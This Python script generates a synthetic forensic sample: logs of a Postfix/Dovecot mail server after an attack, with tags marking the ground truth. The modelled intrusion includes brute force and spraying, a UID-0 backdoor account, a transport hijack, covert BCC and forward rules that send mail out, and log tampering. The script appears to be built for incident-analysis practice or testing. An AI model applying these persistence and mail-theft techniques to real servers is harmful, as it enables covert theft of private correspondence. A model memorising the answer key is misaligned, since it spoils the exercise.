#!/usr/bin/env python3
"""Generate samples/compromised-postfix: a Debian 12 Postfix 3.7 + Dovecot 2.3 host after an attack.

Deterministic (fixed seed, fixed dates). Needs Debian's `postfix` package for `postmap` and
`postalias`, so the compiled maps (.db) are real Berkeley DB hash files. Writes the tree, its
README.md (the story and the ground truth) and truth.json (the same truth, machine-readable).

    python3 samples/tools/gen_compromised_postfix.py samples/compromised-postfix

The host's clock zone is Asia/Shanghai (UTC+8); logs are RFC 3164 (no year, local time), as
rsyslog writes them on Debian 12 with its default template.
"""

import datetime as dt
import gzip
import json
import math
import os
import random
import shutil
import subprocess
import sys

SEED = 20260304
TZ = dt.timezone(dt.timedelta(hours=8))
HOST = "mx1"
DOMAIN = "oceanlab.example.org"
FQDN = f"{HOST}.{DOMAIN}"
SERVER_IP = "198.51.100.25"
OFFICE = ("gw.oceanlab.example.org", "192.0.2.10")  # the legitimate client address (office NAT)
EXFIL_DOMAIN = "mailsafe.example.com"
EXFIL_MX = ("mx.mailsafe.example.com", "203.0.113.200")
ATTACKER = "203.0.113.77"          # SMTP AUTH brute force, takeover, SSH, spam, transport hijack relay
ATTACKER2 = "203.0.113.79"         # second spam source using the stolen login
IMAP_BRUTE = "203.0.113.78"
SCANNER = "203.0.113.45"
RELAY_PROBER = "198.51.100.66"
SPRAYERS = [f"198.51.100.{i}" for i in range(201, 213)]
COMPROMISED = "liwei"
BACKDOOR = "sysadm"                # the attacker's second UID-0 account
IMPLANT_DIR = "/dev/shm/.x"        # where the attacker's kit was unpacked
PRELOAD_LIB = "/usr/local/lib/libprocesshider.so"

USERS = {  # name: (uid, full name, imap client addresses)
    "admin": (1000, "Mail Admin", [OFFICE[1]]),
    "zhangwei": (1001, "Zhang Wei (Director)", [OFFICE[1], "192.0.2.77"]),
    "liwei": (1002, "Li Wei", [OFFICE[1], "100.72.14.9"]),
    "wangfang": (1003, "Wang Fang", [OFFICE[1], "100.80.3.41"]),
    "chenjing": (1004, "Chen Jing (Finance)", [OFFICE[1]]),
}
PARTNERS = [
    ("mail-ot1.partner.example.net", "198.51.100.14", "partner.example.net"),
    ("smtp.univ-a.example.edu", "192.0.2.140", "univ-a.example.edu"),
    ("mx2.funding.example.org", "198.51.100.31", "funding.example.org"),
    ("out.journals.example.com", "192.0.2.188", "journals.example.com"),
    ("mta7.vendor.example.net", "198.51.100.52", "vendor.example.net"),
]
PARTNER_MX = {
    "partner.example.net": ("mx1.partner.example.net", "198.51.100.15"),
    "univ-a.example.edu": ("mx.univ-a.example.edu", "192.0.2.141"),
    "funding.example.org": ("mx.funding.example.org", "198.51.100.32"),
    "journals.example.com": ("mx.journals.example.com", "192.0.2.189"),
    "vendor.example.net": ("mx.vendor.example.net", "198.51.100.53"),
}
SPAM_DOMAINS = ["inbox.example.net", "mail.example.com", "post.example.org", "webmail.example.net",
                "corp-a.example", "shop-b.example", "nonexist.example"]

R = random.Random(SEED)


class Log:
    """Collects syslog lines with their local time; tags mark ground-truth lines."""

    def __init__(self):
        self.lines = []  # (time, seq, text, tag)
        self.seq = 0

    def add(self, t, prog, pid, msg, tag=None):
        stamp = f"{t.strftime('%b')} {t.day:2d} {t.strftime('%H:%M:%S')}"
        pidpart = f"[{pid}]" if pid is not None else ""
        self.seq += 1
        self.lines.append((t, self.seq, f"{stamp} {HOST} {prog}{pidpart}: {msg}", tag))


mail = Log()
auth = Log()
_qids = set()


def qid():
    while True:
        q = "".join(R.choice("0123456789ABCDEF") for _ in range(11))
        if q not in _qids:
            _qids.add(q)
            return q


def pid():
    return R.randint(1200, 48000)


POOLS = {"cleanup": [3690, 3712, 4410], "smtp": [3701, 3702, 3955, 4102, 4401, 4522], "local": [3699, 4003, 4388],
         "bounce": [3720], "pickup": [1049]}


def dpid(kind, t=None):
    """Long-running Postfix daemons keep their pid; qmgr restarts at each reload."""
    if kind == "qmgr":
        if t is not None and t >= ALIAS_FROM:
            return 24310
        if t is not None and t >= BCC_FROM:
            return 23871
        return 1047
    return R.choice(POOLS[kind])


def msgid(t, host=FQDN):
    return f"<{t.strftime('%Y%m%d%H%M%S')}.{R.randint(10**5, 10**6 - 1)}@{host}>"


def sess():
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(16))


def s(t, seconds):
    return t + dt.timedelta(seconds=seconds)


def delays():
    a, b, c, d = R.uniform(0.01, 0.4), R.uniform(0, 0.05), R.uniform(0.05, 0.6), R.uniform(0.05, 0.9)
    return f"delay={a + b + c + d:.2g}, delays={a:.2g}/{b:.2g}/{c:.2g}/{d:.2g}"


def local_delivery(t, q, user, via_sieve_forward=None, tag=None, mid=None):
    """Local delivery through dovecot-lda (mailbox_command) for a system user."""
    p = pid()
    mid = mid or msgid(t)
    if via_sieve_forward:
        mail.add(s(t, 0.2), "dovecot", None,
                 f"lda({user})<{p}><{sess()}>: sieve: msgid={mid}: forwarded to <{via_sieve_forward}>", tag)
    else:
        mail.add(s(t, 0.2), "dovecot", None,
                 f"lda({user})<{p}><{sess()}>: msgid={mid}: saved mail to INBOX")
    mail.add(s(t, 0.3), "postfix/local", dpid("local"),
             f"{q}: to=<{user}@{DOMAIN}>, relay=local, {delays()}, dsn=2.0.0, status=sent (delivered to command: /usr/lib/dovecot/deliver -c /etc/dovecot/dovecot.conf -m \"${{EXTENSION}}\")")
    if via_sieve_forward:
        # dovecot-lda resubmits the copy through sendmail -> pickup.
        fq = qid()
        t2 = s(t, 0.5)
        mail.add(t2, "postfix/pickup", dpid("pickup"), f"{fq}: uid={USERS[user][0]} from=<{user}@{DOMAIN}>")
        mail.add(s(t2, 0.1), "postfix/cleanup", dpid("cleanup"), f"{fq}: message-id={mid}")
        mail.add(s(t2, 0.2), "postfix/qmgr", dpid("qmgr", t), f"{fq}: from=<{user}@{DOMAIN}>, size={R.randint(3000, 90000)}, nrcpt=1 (queue active)")
        remote_send(s(t2, 1), fq, via_sieve_forward, tag=tag)
        mail.add(s(t2, 2), "postfix/qmgr", dpid("qmgr", t), f"{fq}: removed")


def remote_send(t, q, rcpt, orig_to=None, tag=None, hijack=True):
    dom = rcpt.split("@", 1)[1]
    ot = f", orig_to=<{orig_to}>" if orig_to else ""
    if dom == EXFIL_DOMAIN:
        host, ip = EXFIL_MX
    elif dom == "partner.example.net" and hijack and t >= HIJACK_FROM:
        # transport.db (compiled map only) routes the partner domain through the attacker.
        mail.add(t, "postfix/smtp", dpid("smtp"),
                 f"{q}: to=<{rcpt}>{ot}, relay={ATTACKER}[{ATTACKER}]:2525, {delays()}, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as {R.randint(1000, 99999)})",
                 "transport_hijack_delivery")
        return
    elif dom in PARTNER_MX:
        host, ip = PARTNER_MX[dom]
    else:
        host, ip = f"mx.{dom}", f"203.0.113.{R.randint(150, 199)}"
    if dom == "nonexist.example":
        mail.add(t, "postfix/smtp", dpid("smtp"),
                 f"{q}: to=<{rcpt}>{ot}, relay=none, {delays()}, dsn=4.4.1, status=deferred (connect to mx.nonexist.example[203.0.113.250]:25: Connection timed out)", tag)
        return
    roll = R.random()
    if tag == "spam" and roll < 0.10:
        mail.add(t, "postfix/smtp", dpid("smtp"),
                 f"{q}: to=<{rcpt}>{ot}, relay={host}[{ip}]:25, {delays()}, dsn=5.1.1, status=bounced (host {host}[{ip}] said: 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown (in reply to RCPT TO command))", tag)
        bounce_q = qid()
        mail.add(s(t, 0.2), "postfix/cleanup", dpid("cleanup"), f"{bounce_q}: message-id={msgid(t)}")
        mail.add(s(t, 0.3), "postfix/bounce", dpid("bounce"), f"{q}: sender non-delivery notification: {bounce_q}")
        return
    if tag == "spam" and roll < 0.18:
        mail.add(t, "postfix/smtp", dpid("smtp"),
                 f"{q}: to=<{rcpt}>{ot}, relay={host}[{ip}]:25, {delays()}, dsn=4.7.1, status=deferred (host {host}[{ip}] said: 421 4.7.1 Too many messages from {SERVER_IP}, try again later (in reply to end of DATA command))", tag)
        return
    mail.add(t, "postfix/smtp", dpid("smtp"),
             f"{q}: to=<{rcpt}>{ot}, relay={host}[{ip}]:25, {delays()}, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as {R.randint(10**8, 10**9)})", tag)


# Persistence becomes active at these times (local).
BCC_FROM = dt.datetime(2026, 3, 4, 2, 31, 12, tzinfo=TZ)
HIJACK_FROM = dt.datetime(2026, 3, 4, 2, 38, 0, tzinfo=TZ)
FORWARD_FROM = dt.datetime(2026, 3, 4, 2, 36, 0, tzinfo=TZ)
ALIAS_FROM = dt.datetime(2026, 3, 4, 2, 52, 40, tzinfo=TZ)


def inbound(t, rcpt_user=None, rcpt_addr=None):
    host, ip, dom = R.choice(PARTNERS)
    p = pid()
    q = qid()
    sender = f"{R.choice(['editor', 'j.smith', 'grants', 'noreply', 'h.tanaka', 'office', 'm.garcia'])}@{dom}"
    user = rcpt_user or R.choice(list(USERS))
    addr = rcpt_addr or f"{user}@{DOMAIN}"
    mail.add(t, "postfix/smtpd", p, f"connect from {host}[{ip}]")
    mail.add(s(t, 0.4), "postfix/smtpd", p, f"{q}: client={host}[{ip}]")
    mid = msgid(t, dom)
    mail.add(s(t, 0.6), "postfix/cleanup", dpid("cleanup"), f"{q}: message-id={mid}")
    bcc = user == "zhangwei" and t >= BCC_FROM and rcpt_addr is None
    nrcpt = 2 if bcc else 1
    mail.add(s(t, 0.7), "postfix/qmgr", dpid("qmgr", t), f"{q}: from=<{sender}>, size={R.randint(2500, 400000)}, nrcpt={nrcpt} (queue active)")
    mail.add(s(t, 0.8), "postfix/smtpd", p, f"disconnect from {host}[{ip}] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7")
    if addr == f"finance@{DOMAIN}":
        local_delivery(s(t, 1), q, "chenjing", mid=mid)
        if t >= ALIAS_FROM - dt.timedelta(hours=1):
            remote_send(s(t, 1.5), q, f"fin-reports@{EXFIL_DOMAIN}", orig_to=addr, tag="virtual_alias_exfil")
    elif user == "wangfang" and t >= FORWARD_FROM:
        local_delivery(s(t, 1), q, user, via_sieve_forward=f"wf.backup@{EXFIL_DOMAIN}", tag="sieve_redirect_exfil", mid=mid)
    elif user == "liwei" and t >= FORWARD_FROM:
        # ~/.forward: keep a local copy (\liwei) and send one out.
        local_delivery(s(t, 1), q, user, mid=mid)
        remote_send(s(t, 1.4), q, f"liwei.mobile@{EXFIL_DOMAIN}", orig_to=addr, tag="dotforward_exfil")
    else:
        local_delivery(s(t, 1), q, user, mid=mid)
    if bcc:
        remote_send(s(t, 1.6), q, f"zw.archive@{EXFIL_DOMAIN}", tag="bcc_exfil")
    mail.add(s(t, 2.5), "postfix/qmgr", dpid("qmgr", t), f"{q}: removed")


def submission(t, user, client, rcpts, tag=None, conn_pid=None, close=True, method="PLAIN"):
    p = conn_pid or pid()
    host, ip = client
    if conn_pid is None:
        mail.add(t, "postfix/submission/smtpd", p, f"connect from {host}[{ip}]")
        mail.add(s(t, 0.2), "postfix/submission/smtpd", p,
                 f"Anonymous TLS connection established from {host}[{ip}]: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256")
    q = qid()
    mail.add(s(t, 0.5), "postfix/submission/smtpd", p,
             f"{q}: client={host}[{ip}], sasl_method={method}, sasl_username={user}", tag if tag == "spam" else None)
    mail.add(s(t, 0.6), "postfix/cleanup", dpid("cleanup"), f"{q}: message-id={msgid(t)}")
    mail.add(s(t, 0.7), "postfix/qmgr", dpid("qmgr", t), f"{q}: from=<{user}@{DOMAIN}>, size={R.randint(1500, 60000)}, nrcpt={len(rcpts)} (queue active)")
    for i, r in enumerate(rcpts):
        if r.endswith("@" + DOMAIN):
            local_delivery(s(t, 1 + i * 0.1), q, r.split("@")[0])
        else:
            remote_send(s(t, 1.2 + i * 0.3), q, r, tag=tag)
    mail.add(s(t, 3), "postfix/qmgr", dpid("qmgr", t), f"{q}: removed")
    if close:
        n = len(rcpts)
        mail.add(s(t, 1.1), "postfix/submission/smtpd", p,
                 f"disconnect from {host}[{ip}] ehlo=2 starttls=1 auth=1 mail=1 rcpt={n} data=1 quit=1 commands={7 + n}")
    return p


def imap_session(t, user, ip, tag=None, client=None):
    """An IMAP login now; its end (and any mail_log lines) once all mail is known (see sessions_end)."""
    p = pid()
    sid = sess()
    mail.add(t, "dovecot", None,
             f"imap-login: Login: user=<{user}>, method=PLAIN, rip={ip}, lip={SERVER_IP}, mpid={p}, TLS, session=<{sid}>", tag)
    end = s(t, R.randint(30, 2400))
    # The draws the first version of this sample spent on random counters, kept so that every
    # other line of the sample stays as it was; the counters now come from the mailbox model.
    sess()
    for lo, hi in ((80, 4000), (500, 900000), (0, 40), (0, 800000)):
        R.randint(lo, hi)
    SESSIONS.append({"kind": "cut" if tag else "ordinary", "proto": "imap", "user": user, "ip": ip, "t": t, "end": end,
                     "pid": p, "sid": sid, "tag": tag, "client": client or ip})


def smtp_auth_fail(t, ip, user, service="postfix/submission/smtpd", tag=None):
    p = pid()
    mail.add(t, service, p, f"connect from unknown[{ip}]")
    mail.add(s(t, 2.1), service, p,
             f"warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username={user}", tag)
    mail.add(s(t, 2.1), "dovecot", None,
             f"auth-worker({R.randint(3000, 3100)}): pam({user},{ip},<{sess()}>): pam_authenticate() failed: Authentication failure (Password mismatch?)")
    mail.add(s(t, 2.3), service, p, f"lost connection after AUTH from unknown[{ip}]")
    mail.add(s(t, 2.3), service, p, f"disconnect from unknown[{ip}] ehlo=1 auth=0/1 commands=1/2")


def imap_auth_fail(t, ip, user, tag=None):
    mail.add(t, "dovecot", None,
             f"auth-worker({R.randint(3000, 3100)}): pam({user},{ip},<{sess()}>): pam_authenticate() failed: Authentication failure (Password mismatch?)")
    mail.add(s(t, 2), "dovecot", None,
             f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{user}>, method=PLAIN, rip={ip}, lip={SERVER_IP}, TLS, session=<{sess()}>", tag)


def noise(t):
    """Ordinary Internet background: RBL rejects, scanners, a stray SASL guess."""
    k = R.random()
    ip = f"{R.choice([45, 80, 91, 185, 193])}.{R.randint(1, 254)}.{R.randint(1, 254)}.{R.randint(1, 254)}"
    p = pid()
    if k < 0.45:
        mail.add(t, "postfix/smtpd", p, f"connect from unknown[{ip}]")
        mail.add(s(t, 1), "postfix/smtpd", p,
                 f"NOQUEUE: reject: RCPT from unknown[{ip}]: 554 5.7.1 Service unavailable; Client host [{ip}] blocked using zen.spamhaus.org; https://www.spamhaus.org/query/ip/{ip}; from=<{R.choice(['info', 'sales', 'promo'])}@{ip.replace('.', '-')}.example> to=<{R.choice(list(USERS))}@{DOMAIN}> proto=ESMTP helo=<{ip}>")
        mail.add(s(t, 1.2), "postfix/smtpd", p, f"disconnect from unknown[{ip}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4")
    elif k < 0.85:
        stage = R.choice(["CONNECT", "EHLO", "STARTTLS"])
        mail.add(t, "postfix/smtpd", p, f"connect from unknown[{ip}]")
        mail.add(s(t, 3), "postfix/smtpd", p, f"lost connection after {stage} from unknown[{ip}]")
        cmds = {"CONNECT": "commands=0", "EHLO": "ehlo=1 commands=1", "STARTTLS": "ehlo=1 starttls=0/1 commands=1/2"}[stage]
        mail.add(s(t, 3), "postfix/smtpd", p, f"disconnect from unknown[{ip}] {cmds}")
    else:
        smtp_auth_fail(t, ip, R.choice(["admin", "test", "info", "webmaster"]))


def day_traffic(day, until=None):
    """One day of ordinary work: inbound, outbound, internal mail, IMAP, noise."""
    def at(h0, h1):
        t = dt.datetime(day.year, day.month, day.day, tzinfo=TZ) + dt.timedelta(seconds=R.uniform(h0 * 3600, h1 * 3600))
        return t
    weekend = day.weekday() >= 5
    scale = 0.4 if weekend else 1.0
    events = []
    for _ in range(int(55 * scale)):
        events.append((at(7, 23), "in"))
    for _ in range(int(6 * scale) + 2):
        events.append((at(0, 24), "finance"))
    for _ in range(int(30 * scale)):
        events.append((at(8, 21), "out"))
    for _ in range(int(12 * scale)):
        events.append((at(8, 19), "internal"))
    for _ in range(int(70 * scale)):
        events.append((at(7, 23.5), "imap"))
    for _ in range(22):
        events.append((at(0, 24), "noise"))
    events.append((at(6.4, 6.45), "cron"))
    for t, kind in sorted(events):
        if until and t >= until:
            continue
        if kind == "in":
            inbound(t)
        elif kind == "finance":
            inbound(t, rcpt_addr=f"finance@{DOMAIN}")
        elif kind == "out":
            u = R.choice(list(USERS))
            host, ip, dom = R.choice(PARTNERS)
            submission(t, u, OFFICE, [f"{R.choice(['editor', 'j.smith', 'grants', 'h.tanaka'])}@{dom}"])
        elif kind == "internal":
            u, v = R.sample(list(USERS), 2)
            submission(t, u, OFFICE, [f"{v}@{DOMAIN}"])
        elif kind == "imap":
            u = R.choice(list(USERS))
            imap_session(t, u, R.choice(USERS[u][2]))
        elif kind == "noise":
            noise(t)
        elif kind == "cron":
            q = qid()
            mail.add(t, "postfix/pickup", dpid("pickup"), f"{q}: uid=0 from=<root>")
            mail.add(s(t, 0.1), "postfix/cleanup", dpid("cleanup"), f"{q}: message-id={msgid(t)}")
            mail.add(s(t, 0.2), "postfix/qmgr", dpid("qmgr", t), f"{q}: from=<root@{DOMAIN}>, size=1893, nrcpt=1 (queue active)")
            if t >= FORWARD_FROM:
                mail.add(s(t, 0.4), "postfix/local", dpid("local"),
                         f"{q}: to=<backup@{DOMAIN}>, orig_to=<backup>, relay=local, {delays()}, dsn=2.0.0, status=sent (delivered to command: /var/backups/.cache/sync.sh)",
                         "nologin_forward_pipe")
            else:
                mail.add(s(t, 0.4), "postfix/local", dpid("local"),
                         f"{q}: to=<admin@{DOMAIN}>, orig_to=<backup>, relay=local, {delays()}, dsn=2.0.0, status=sent (delivered to command: /usr/lib/dovecot/deliver -c /etc/dovecot/dovecot.conf -m \"${{EXTENSION}}\")")
            mail.add(s(t, 0.5), "postfix/qmgr", dpid("qmgr", t), f"{q}: removed")


def attack():
    d = lambda h, m, sec=0: dt.datetime(2026, 3, 3 if h >= 12 else 4, h, m, sec, tzinfo=TZ)
    # Recon, 3 Mar 22:10-22:40: connection scan, VRFY, RCPT enumeration.
    t = d(22, 10, 3)
    for i in range(36):
        p = pid()
        stage = "CONNECT" if i % 3 == 0 else "EHLO"
        mail.add(t, "postfix/smtpd", p, f"connect from unknown[{SCANNER}]", "recon_scan")
        mail.add(s(t, 1), "postfix/smtpd", p, f"lost connection after {stage} from unknown[{SCANNER}]", "recon_scan")
        mail.add(s(t, 1), "postfix/smtpd", p, f"disconnect from unknown[{SCANNER}] {'commands=0' if stage == 'CONNECT' else 'ehlo=1 commands=1'}", "recon_scan")
        t = s(t, R.uniform(8, 20))
    names = ["admin", "test", "sales", "info", "hr", "support", "office", "webmaster", "root", "postmaster",
             "finance", "director", "zhang", "li", "wang", "chen", "liu", "yang", "huang", "zhao",
             "student", "lab", "guest", "user", "mail", "contact", "jobs", "service", "billing", "it"]
    p = pid()
    mail.add(t, "postfix/smtpd", p, f"connect from unknown[{SCANNER}]", "recon_scan")
    for n in names:
        t = s(t, R.uniform(1, 4))
        if n in USERS or n in ("root", "postmaster", "info", "finance", "webmaster"):
            continue  # accepted VRFY is not logged by Postfix
        mail.add(t, "postfix/smtpd", p,
                 f"NOQUEUE: reject: VRFY from unknown[{SCANNER}]: 550 5.1.1 <{n}>: Recipient address rejected: User unknown in local recipient table; to=<{n}> proto=ESMTP helo=<scanner.example>",
                 "recon_vrfy")
    mail.add(s(t, 1), "postfix/smtpd", p, f"too many errors after VRFY from unknown[{SCANNER}]", "recon_vrfy")
    mail.add(s(t, 1), "postfix/smtpd", p, f"disconnect from unknown[{SCANNER}] ehlo=1 vrfy=5/25 commands=6/26", "recon_vrfy")
    t = s(t, 40)
    for n in names * 2:
        p = pid()
        mail.add(t, "postfix/smtpd", p, f"connect from unknown[{SCANNER}]", "recon_scan")
        addr = f"{n}{R.choice(['', '1', '.cn', '2026'])}@{DOMAIN}"
        mail.add(s(t, 1), "postfix/smtpd", p,
                 f"NOQUEUE: reject: RCPT from unknown[{SCANNER}]: 550 5.1.1 <{addr}>: Recipient address rejected: User unknown in local recipient table; from=<probe@scanner.example> to=<{addr}> proto=ESMTP helo=<scanner.example>",
                 "recon_rcpt_enum")
        mail.add(s(t, 1.2), "postfix/smtpd", p, f"disconnect from unknown[{SCANNER}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4", "recon_scan")
        t = s(t, R.uniform(5, 15))

    # SMTP AUTH brute force on submission, 4 Mar 00:58 -> success 02:14:07.
    t = dt.datetime(2026, 3, 4, 0, 58, 11, tzinfo=TZ)
    targets = ["admin", "info", "liwei", "zhangwei", "test"]
    n = 0
    while t < dt.datetime(2026, 3, 4, 2, 13, 40, tzinfo=TZ):
        smtp_auth_fail(t, ATTACKER, targets[n % len(targets)] if n < 150 else "liwei", tag="brute_force")
        n += 1
        t = s(t, R.uniform(14, 26))
    t = dt.datetime(2026, 3, 4, 2, 14, 5, tzinfo=TZ)
    p = pid()
    mail.add(t, "postfix/submission/smtpd", p, f"connect from unknown[{ATTACKER}]", "takeover")
    mail.add(s(t, 2), "postfix/submission/smtpd", p,
             f"8C3D2A1F07E: client=unknown[{ATTACKER}], sasl_method=LOGIN, sasl_username={COMPROMISED}", "takeover_login")
    mail.add(s(t, 2.4), "postfix/cleanup", dpid("cleanup"), f"8C3D2A1F07E: message-id=<{t.strftime('%Y%m%d%H%M%S')}.test@{FQDN}>", "takeover")
    mail.add(s(t, 2.5), "postfix/qmgr", dpid("qmgr", t), f"8C3D2A1F07E: from=<{COMPROMISED}@{DOMAIN}>, size=612, nrcpt=1 (queue active)", "takeover")
    mail.add(s(t, 3), "postfix/submission/smtpd", p, f"disconnect from unknown[{ATTACKER}] ehlo=1 auth=1 mail=1 rcpt=1 data=1 quit=1 commands=6", "takeover")
    mail.add(s(t, 3.8), "postfix/smtp", dpid("smtp"),
             f"8C3D2A1F07E: to=<t3st.check@inbox.example.net>, relay=mx.inbox.example.net[203.0.113.160]:25, delay=1.8, delays=0.5/0.01/0.6/0.7, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 77812)", "takeover")
    mail.add(s(t, 4), "postfix/qmgr", dpid("qmgr", t), "8C3D2A1F07E: removed")
    _qids.add("8C3D2A1F07E")
    # Password spraying: many sources, one or two attempts each, many users.
    t = dt.datetime(2026, 3, 4, 1, 10, 0, tzinfo=TZ)
    spray_users = ["admin", "info", "zhangwei", "liwei", "wangfang", "chenjing", "office", "test", "hr", "finance"]
    for ip in SPRAYERS:
        for u in R.sample(spray_users, 2):
            smtp_auth_fail(t, ip, u, tag="spray")
            t = s(t, R.uniform(60, 200))
    # IMAP brute force on two accounts, no success.
    t = dt.datetime(2026, 3, 4, 1, 31, 0, tzinfo=TZ)
    for i in range(90):
        imap_auth_fail(t, IMAP_BRUTE, ["zhangwei", "admin"][i % 2], tag="imap_brute")
        t = s(t, R.uniform(15, 30))
    # Inside the slice the attacker later cut out of mail.log (02:16:30-02:44:10):
    # IMAP access to the stolen mailbox, config reload, test sends.
    imap_session(dt.datetime(2026, 3, 4, 2, 20, 33, tzinfo=TZ), COMPROMISED, ATTACKER, "cut_imap_theft")
    t = BCC_FROM
    mail.add(t, "postfix/postfix-script", pid(), "refreshing the Postfix mail system", "cut_reload")
    mail.add(s(t, 0.2), "postfix/master", 1034, "reload -- version 3.7.11, configuration /etc/postfix", "cut_reload")
    for k in range(6):
        submission(dt.datetime(2026, 3, 4, 2, 33 + k * 2, 10, tzinfo=TZ), COMPROMISED, ("unknown", ATTACKER),
                   [f"check{k}@{R.choice(SPAM_DOMAINS[:3])}"], tag="cut_test_send")
    # Visible second reload after aliases/newaliases.
    t = ALIAS_FROM
    mail.add(t, "postfix/postfix-script", pid(), "refreshing the Postfix mail system", "config_reload")
    mail.add(s(t, 0.2), "postfix/master", 1034, "reload -- version 3.7.11, configuration /etc/postfix", "config_reload")
    # Spam burst through the stolen login, two sources.
    for start, end, ip, count in [(dt.datetime(2026, 3, 4, 2, 45, 2, tzinfo=TZ), 6300, ATTACKER, 170),
                                  (dt.datetime(2026, 3, 4, 3, 2, 0, tzinfo=TZ), 4800, ATTACKER2, 90),
                                  (dt.datetime(2026, 3, 5, 8, 10, 0, tzinfo=TZ), 1800, ATTACKER2, 100)]:
        t = start
        p = None
        for i in range(count):
            if i % 10 == 0:
                if p:
                    mail.add(s(t, -1), "postfix/submission/smtpd", p,
                             f"disconnect from unknown[{ip}] ehlo=1 auth=1 mail=10 rcpt=30 data=10 quit=1 commands=53")
                p = pid()
                mail.add(t, "postfix/submission/smtpd", p, f"connect from unknown[{ip}]", "spam")
            rcpts = [f"{R.choice(['anna', 'bob', 'chris', 'dana', 'eve', 'frank', 'gina', 'hugo'])}{R.randint(1, 9999)}@{R.choice(SPAM_DOMAINS)}" for _ in range(3)]
            submission(t, COMPROMISED, ("unknown", ip), rcpts, tag="spam", conn_pid=p, close=False, method="LOGIN")
            t = s(t, end / count)
        mail.add(s(t, 1), "postfix/submission/smtpd", p, f"disconnect from unknown[{ip}] ehlo=1 auth=1 mail=10 rcpt=30 data=10 quit=1 commands=53")
    # Open-relay probing.
    t = dt.datetime(2026, 3, 4, 3, 5, 12, tzinfo=TZ)
    for i in range(25):
        p = pid()
        mail.add(t, "postfix/smtpd", p, f"connect from unknown[{RELAY_PROBER}]", "relay_probe")
        rcpt = f"relaytest{i}@{R.choice(['example.com', 'example.net', 'probe.example'])}"
        mail.add(s(t, 1), "postfix/smtpd", p,
                 f"NOQUEUE: reject: RCPT from unknown[{RELAY_PROBER}]: 454 4.7.1 <{rcpt}>: Relay access denied; from=<spam@{RELAY_PROBER}> to=<{rcpt}> proto=SMTP helo=<{RELAY_PROBER}>",
                 "relay_probe")
        mail.add(s(t, 1.1), "postfix/smtpd", p, f"disconnect from unknown[{RELAY_PROBER}] helo=1 mail=1 rcpt=0/1 quit=1 commands=3/4", "relay_probe")
        t = s(t, R.uniform(20, 50))

    # auth.log: SSH with the reused password, sudo to root, the planted cron job running.
    t = dt.datetime(2026, 3, 4, 2, 17, 41, tzinfo=TZ)
    auth.add(t, "sshd", 23012, f"Accepted password for {COMPROMISED} from {ATTACKER} port 51844 ssh2", "ssh_login")
    auth.add(t, "sshd", 23012, f"pam_unix(sshd:session): session opened for user {COMPROMISED}(uid=1002) by (uid=0)")
    auth.add(s(t, 0.1), "systemd-logind", 512, f"New session 311 of user {COMPROMISED}.")
    auth.add(s(t, 82), "sudo", None, f"  {COMPROMISED} : TTY=pts/1 ; PWD=/home/{COMPROMISED} ; USER=root ; COMMAND=/bin/bash", "sudo_root")
    auth.add(s(t, 82), "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {COMPROMISED}(uid=1002)")
    # As root: a second UID-0 account and its password (shadow-utils' own syslog lines).
    auth.add(dt.datetime(2026, 3, 4, 2, 21, 37, tzinfo=TZ), "useradd", 23187,
             f"new user: name={BACKDOOR}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1", "backdoor_account")
    auth.add(dt.datetime(2026, 3, 4, 2, 21, 49, tzinfo=TZ), "passwd", 23190,
             f"pam_unix(passwd:chauthtok): password changed for {BACKDOOR}", "backdoor_account")
    auth.add(dt.datetime(2026, 3, 4, 2, 58, 3, tzinfo=TZ), "sudo", None, "pam_unix(sudo:session): session closed for user root")
    auth.add(dt.datetime(2026, 3, 4, 2, 58, 9, tzinfo=TZ), "sshd", 23012, f"pam_unix(sshd:session): session closed for user {COMPROMISED}")
    auth.add(dt.datetime(2026, 3, 4, 2, 58, 9, tzinfo=TZ), "systemd-logind", 512, "Session 311 logged out. Waiting for processes to exit.")
    t = dt.datetime(2026, 3, 4, 3, 0, 1, tzinfo=TZ)
    end = dt.datetime(2026, 3, 5, 11, 0, 0, tzinfo=TZ)
    while t < end:
        p = pid()
        auth.add(t, "CRON", p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", "planted_cron_run")
        auth.add(s(t, 1), "CRON", p, "pam_unix(cron:session): session closed for user root")
        t += dt.timedelta(minutes=20)


# ---------------------------------------------------------------- mailboxes, IMAP and POP3 sessions
# What the users' mailboxes hold and what each IMAP/POP3 session fetched, deleted or moved, with
# Dovecot 2.3.19's own line shapes (README, "Line formats"). Drawn from a stream of its own (TR),
# so adding this left every other line of the sample as it was.
TR = random.Random(SEED + 19)
SESSIONS = []  # IMAP/POP3 sessions; sessions_end() writes their ends once all mail is known
THEFT = {}     # what the theft episode did, for truth.json

# What each mailbox held before 1 March: (folder, messages, median size in bytes). The Maildir
# folders under home/ hold only a token few of them.
FOLDERS = {
    "admin": [("INBOX", 2210, 6000), ("Sent", 140, 5000), ("Trash", 12, 6000)],
    "zhangwei": [("INBOX", 5120, 16000), ("Sent", 1830, 11000), ("项目", 640, 120000), ("Drafts", 4, 9000),
                 ("Trash", 55, 14000), ("Junk", 31, 7000)],
    "liwei": [("INBOX", 1652, 15000), ("Sent", 534, 10000), ("合同", 146, 180000), ("Archive", 812, 17000),
              ("Drafts", 6, 8000), ("Trash", 38, 13000), ("Junk", 19, 6000)],
    "wangfang": [("INBOX", 2904, 15000), ("Sent", 771, 10000), ("Papers", 418, 350000), ("Drafts", 3, 8000),
                 ("Trash", 27, 12000), ("Junk", 12, 6000)],
    "chenjing": [("INBOX", 3377, 14000), ("Sent", 1204, 12000), ("报销", 905, 150000), ("Trash", 60, 12000),
                 ("Junk", 8, 6000)],
}
THEFT_IP = ATTACKER2           # the attacker's address that read, took and deleted liwei's mail
